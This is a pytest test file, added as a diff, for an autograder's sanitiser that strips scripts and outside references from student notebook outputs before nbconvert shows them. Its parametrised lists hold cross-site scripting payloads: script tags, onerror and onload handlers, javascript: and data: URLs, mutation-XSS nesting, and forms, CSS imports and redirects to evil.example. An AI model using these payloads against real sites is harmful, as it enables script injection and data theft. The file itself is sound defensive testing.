@@ -1,0 +1,184 @@
+"""Students' outputs, made harmless."""
+
+from typing import Any
+
+import nbformat
+import pytest
+from bs4 import BeautifulSoup
+from nbconvert import HTMLExporter
+from nbformat.v4 import new_code_cell, new_notebook
+from traitlets.config import Config
+
+from autograder.feedback.sanitise import clean_html, clean_outputs, clean_svg
+
+DATAFRAME = (
+    '<table border="1" class="dataframe score"><thead><tr><th>norm</th></tr></thead>'
+    '<tbody><tr><td style="color: red; position: fixed">0.1</td></tr></tbody></table>'
+)
+DRAWING = (
+    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"'
+    ' xmlns:xlink="http://www.w3.org/1999/xlink"><defs><clipPath id="a"><path d="M 0 0"/>'
+    '</clipPath></defs><use xlink:href="#a" style="fill: #ff0000"/>'
+    "<text>1\N{NO-BREAK SPACE}%</text>{}</svg>"
+)
+HOSTILE_HTML = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)></svg>",
+    "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
+    "<a href='java\tscript:alert(1)'>x</a>",
+    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+    "<form action='//evil.example'><input name=score><button>x</button></form>",
+    "<style>@import url(//evil.example)</style>",
+    "<div style='background: url(//evil.example)'>x</div>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'><base href='//evil.example'>",
+    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
+    "<object data=x><embed src=x>",
+    "<img src='https://evil.example/seen.png'>",
+]
+
+
+def display(mime: str, value: Any, **metadata: Any) -> dict[str, Any]:
+    """Return a display output of one type as a worker may send it."""
+    return {"output_type": "display_data", "data": {mime: value}, "metadata": metadata}
+
+
+@pytest.mark.parametrize("html", HOSTILE_HTML)
+def test_html_loses_what_runs_or_fetches(html: str) -> None:
+    """No script, handler, form, frame, style sheet, or address outside remains."""
+    page = BeautifulSoup(clean_html(html), "html.parser")
+    assert {tag.name for tag in page.find_all()} <= {"a", "div", "img"}
+    kept = {(name, str(value)) for tag in page.find_all() for name, value in tag.attrs.items()}
+    assert {name for name, _ in kept} <= {"rel", "style"}
+    assert "evil" not in str(kept)
+
+
+def test_html_keeps_a_table_and_its_look() -> None:
+    """A data frame keeps its cells and harmless styles; only its own class stays."""
+    table = BeautifulSoup(clean_html(DATAFRAME), "html.parser").table
+    assert table["class"] == ["dataframe"]
+    assert table.td.get_text() == "0.1"
+    assert table.td["style"] == "color:red"
+
+
+def test_html_keeps_links_and_embedded_pictures() -> None:
+    """A link to a page and a picture in the output itself stay."""
+    html = '<a href="https://keras.io">Keras</a><img src="data:image/png;base64,AAAA">'
+    page = BeautifulSoup(clean_html(html), "html.parser")
+    assert page.a["href"] == "https://keras.io"
+    assert page.img["src"] == "data:image/png;base64,AAAA"
+
+
+def test_html_takes_no_ids_or_classes_of_the_page() -> None:
+    """An id or class could pass for a score box of the formgrader, so neither stays."""
+    assert clean_html('<p id="clip_by_value" class="score tabbable">4</p>') == "<p>4</p>"
+
+
+def test_svg_stays_a_drawing() -> None:
+    """Shapes, references within the drawing and colours stay, as XML that stands alone."""
+    cleaned = clean_svg(DRAWING.format(""))
+    page = BeautifulSoup(cleaned, "html.parser")
+    assert page.svg["xmlns"] == "http://www.w3.org/2000/svg"
+    assert page.use["href"] == "#a"
+    assert page.use["style"] == "fill:#ff0000"
+    assert "clipPath" in cleaned
+    assert "&nbsp;" not in cleaned
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        "<script>alert(1)</script>",
+        '<a xlink:href="javascript:alert(1)"><text>x</text></a>',
+        "<foreignObject><img src=x onerror=alert(1)></foreignObject>",
+        '<image href="https://evil.example/x.png"/>',
+        '<image href="/evil/logout"/>',
+        '<animate attributeName="href" to="javascript:alert(1)"/>',
+        "<style>@import url(https://evil.example)</style>",
+    ],
+)
+def test_svg_loses_what_runs_or_fetches(hostile: str) -> None:
+    """Scripts, links, foreign elements and outside references go; the drawing stays."""
+    cleaned = clean_svg(DRAWING.format(hostile))
+    assert "#a" in cleaned
+    assert not any(word in cleaned for word in ("alert", "evil", "onerror", "javascript"))
+
+
+def test_svg_that_is_no_drawing_is_dropped() -> None:
+    """Text that only claims to be SVG gives no output at all."""
+    assert clean_outputs([display("image/svg+xml", "<p>no</p>")]) == []
+
+
+@pytest.mark.parametrize(
+    "mime",
+    [
+        "application/javascript",
+        "application/vnd.jupyter.widget-view+json",
+        "text/vnd.mermaid",
+        "application/x-unknown",
+    ],
+)
+def test_other_types_are_dropped_alone(mime: str) -> None:
+    """A type that is not known goes, and what stands beside it stays."""
+    output = display(mime, "alert(1)")
+    output["data"]["text/plain"] = "<Javascript object>"
+    assert clean_outputs([output])[0].data == {"text/plain": "<Javascript object>"}
+    assert clean_outputs([display(mime, "alert(1)")]) == []
+
+
+def test_image_metadata_are_numbers() -> None:
+    """nbconvert writes width and height without quotes, so only numbers pass."""
+    size = {"width": 300, "height": "1 onload=alert(1)", "unconfined": True, "alt": "x"}
+    (output,) = clean_outputs([display("image/png", "AAAA", **{"image/png": size})])
+    assert output.metadata == {"image/png": {"width": 300}}
+
+
+def test_isolated_html_is_shown_in_the_page() -> None:
+    """The mark that puts HTML into a frame with scripts allowed is taken off."""
+    output = display("text/html", "<b>x</b>", **{"text/html": {"isolated": True}})
+    assert clean_outputs([output])[0].metadata == {}
+
+
+def test_streams_errors_and_results_stay() -> None:
+    """Text, tracebacks and results pass as they are, with their kinds."""
+    outputs = [
+        {"output_type": "stream", "name": "stderr", "text": ["a <b>\n", "c"]},
+        {"output_type": "error", "ename": "E", "evalue": "v", "traceback": ["one", "two"]},
+        {"output_type": "execute_result", "data": {"text/plain": "1"}, "execution_count": 3},
+    ]
+    stream, error, result = clean_outputs(outputs)
+    assert (stream.name, stream.text) == ("stderr", "a <b>\nc")
+    assert (error.ename, error.evalue, error.traceback) == ("E", "v", ["one", "two"])
+    assert (result.output_type, result.data) == ("execute_result", {"text/plain": "1"})
+
+
+@pytest.mark.parametrize(
+    "shape",
+    [
+        {},
+        {"output_type": "update_display_data"},
+        {"output_type": "display_data", "data": [1]},
+        {"output_type": "display_data", "data": {"text/plain": {"a": 1}}, "metadata": 3},
+        {"output_type": "display_data", "data": {"image/png": "A"}, "metadata": {"image/png": 1}},
+        {"output_type": "error", "ename": 1, "traceback": 7},
+        {"output_type": "stream", "name": ["x"], "text": None},
+        "text",
+    ],
+)
+def test_any_shape_gives_valid_outputs(shape: Any) -> None:
+    """An output of whatever shape is dropped or becomes valid nbformat."""
+    notebook = new_notebook(cells=[new_code_cell("", outputs=clean_outputs([shape]))])
+    nbformat.validate(notebook)
+
+
+def test_nbconverts_own_page_holds_no_script() -> None:
+    """Shown by nbconvert's classic template, cleaned outputs bring no script and no handler."""
+    outputs = [display("text/html", html) for html in HOSTILE_HTML]
+    outputs += [display("text/markdown", html) for html in HOSTILE_HTML]
+    outputs += [display("image/png", "AAAA", **{"image/png": {"width": "1 onload=alert(1)"}})]
+    cell = new_code_cell("", outputs=clean_outputs(outputs))
+    exporter = HTMLExporter(template_name="classic", config=Config())
+    html, _ = exporter.from_notebook_node(new_notebook(cells=[cell]))
+    shown = BeautifulSoup(html, "html.parser").select_one("div.output_wrapper")
+    assert not shown(["script", "iframe", "form", "style", "object"])
+    assert not [name for tag in shown.find_all() for name in tag.attrs if name.startswith("on")]
